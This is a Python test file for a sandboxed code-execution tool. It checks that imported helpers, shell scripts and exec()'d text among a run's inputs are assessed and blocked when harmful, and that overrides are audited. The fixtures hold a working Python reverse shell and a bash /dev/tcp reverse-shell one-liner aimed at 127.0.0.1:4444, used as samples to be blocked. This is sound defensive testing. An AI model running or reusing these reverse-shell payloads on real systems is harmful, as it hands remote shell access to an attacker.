"""Programs among a run's inputs are assessed with the code: a `main.py` that
only imports a helper given with --input is judged by what the helper does,
through `run` and through `submit` to a running service. The harmful helpers
here are never executed (blocked), or never called (the override case)."""
import hashlib
import json

from harness import CliTestCase, validate
from service import Service

REVERSE_SHELL = (
    "import os, pty, socket\n"
    "def go():\n"
    "    s = socket.socket()\n"
    "    s.connect(('127.0.0.1', 4444))\n"
    "    for fd in (0, 1, 2):\n"
    "        os.dup2(s.fileno(), fd)\n"
    "    pty.spawn('/bin/sh')\n")


class InputPrograms(CliTestCase):
    def setUp(self):
        super().setUp()
        self.main = self.write("main.py", "import helper\nprint('main ran')\n")
        self.helper = self.write("helper.py", REVERSE_SHELL)

    def test_a_harmful_helper_blocks_the_run_and_is_named(self):
        res = self.cli("run", self.main, "--input", self.helper)
        self.assertEqual(res.code, 3, res)
        self.assertNotIn("main ran", res.stdout)
        self.assertIn("helper.py", res.stderr)
        # The code alone is harmless: the helper is what blocks it.
        self.assertEqual(self.cli("assess", "--json", self.main).json()["level"], "LOW")

        result = self.run_json(self.main, "--input", self.helper)
        self.assertEqual(result["status"], "blocked")
        self.assertIsNone(result["execution"])
        a = result["assessment"]
        self.assertEqual(a["level"], "BLOCKED")
        self.assertIn("helper.py", a["explanation"])
        self.assertIn("helper.py", [f.get("file") for f in a["findings"] if f["level"] == "BLOCKED"])
        self.assertEqual(a["inputs"], [{"name": "helper.py", "language": "python", "level": "BLOCKED",
                                        "sha256": hashlib.sha256(REVERSE_SHELL.encode()).hexdigest()}])

    def test_a_shell_script_named_by_its_first_line_is_assessed_as_shell(self):
        tool = self.write("tool", "#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n")
        main = self.write("m.py", "import subprocess\nsubprocess.run(['sh', 'tool'])\n")
        result = self.run_json(main, "--input", tool)
        self.assertEqual(result["assessment"]["level"], "BLOCKED")
        self.assertEqual(result["assessment"]["inputs"][0]["language"], "shell")

    def test_data_and_harmless_helpers_run(self):
        notes = self.write("notes.txt", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n")
        stats = self.write("stats.py", "def mean(xs):\n    return sum(xs) / len(xs)\n")
        main = self.write("m.py", "import stats\nprint(stats.mean([1, 2, 3]))\n")
        res = self.cli("run", main, "--input", stats, "--input", notes)
        self.assertEqual(res.code, 0, res)
        self.assertEqual(res.stdout, "2.0\n")

    def test_text_the_code_executes_is_read_as_code(self):
        payload = self.write("payload.txt", REVERSE_SHELL)
        runner = self.write("r.py", "exec(open('payload.txt').read())\n")
        result = self.run_json(runner, "--input", payload)
        self.assertEqual(result["assessment"]["level"], "BLOCKED")
        self.assertEqual([i["name"] for i in result["assessment"]["inputs"]], ["payload.txt"])
        # Beside code that only reads it, the same text is data.
        reader = self.write("rd.py", "print(len(open('payload.txt').read()))\n")
        res = self.cli("run", reader, "--input", payload)
        self.assertEqual(res.code, 0, res)

    def test_an_override_names_the_helper_it_allows(self):
        result = self.run_json(self.main, "--input", self.helper, "--override-reason",
                               "reviewed helper.py: go() is never called")
        self.assertEqual(result["status"], "completed")
        self.assertEqual(result["execution"]["stdout"], "main ran\n")
        res = self.cli("audit", "show", "--type", "override", "--json")
        self.assertEqual(res.code, 0, res)
        records = res.json()
        self.assertEqual(len(records), 1, records)
        self.assertEqual(records[0]["data"]["inputs"][0]["name"], "helper.py")
        self.assertEqual(records[0]["data"]["inputs"][0]["sha256"],
                         hashlib.sha256(REVERSE_SHELL.encode()).hexdigest())
        exported = self.cli("audit", "export", "--format", "jsonl")
        self.assertEqual(exported.code, 0, exported)
        for line in exported.stdout.splitlines():
            entry = json.loads(line)
            if "kind" not in entry:  # the export's header and checkpoint lines are not records
                validate(entry, "audit-record.schema.json")
        self.assertEqual(self.cli("audit", "verify").code, 0)

    def test_padding_past_the_limit_does_not_hide_a_program(self):
        self.edit_config("sandbox.yaml", lambda t: t.replace("max_input_code: 4MiB", "max_input_code: 1KiB"))
        padding = self.write("aaa.py", "#" * 2000 + "\n")
        result = self.run_json(self.main, "--input", padding, "--input", self.write("h2.py", "print(1)\n"))
        a = result["assessment"]
        self.assertEqual(a["level"], "BLOCKED")
        self.assertEqual([f["rule_id"] for f in a["findings"]], ["INPUT-CODE-OVER-LIMIT"])
        self.assertIn("max_input_code", a["explanation"])


class InputProgramsThroughTheService(CliTestCase):
    def test_submit_blocks_on_a_harmful_helper(self):
        service = Service(self.state, self.config)
        try:
            main = self.write("main.py", "import helper\n")
            helper = self.write("helper.py", REVERSE_SHELL)
            res = self.cli("submit", "--server", service.address, main, "--input", helper)
            self.assertEqual(res.code, 3, res)
            self.assertIn("helper.py", res.stderr)
            res = self.cli("submit", "--server", service.address, "--json", main, "--input", helper)
            self.assertEqual(res.code, 0, res)
            result = res.json()
            validate(result, "result.schema.json")
            self.assertEqual(result["assessment"]["inputs"][0]["level"], "BLOCKED")
        finally:
            self.assertEqual(service.stop(), 0)


if __name__ == "__main__":
    import unittest
    unittest.main()
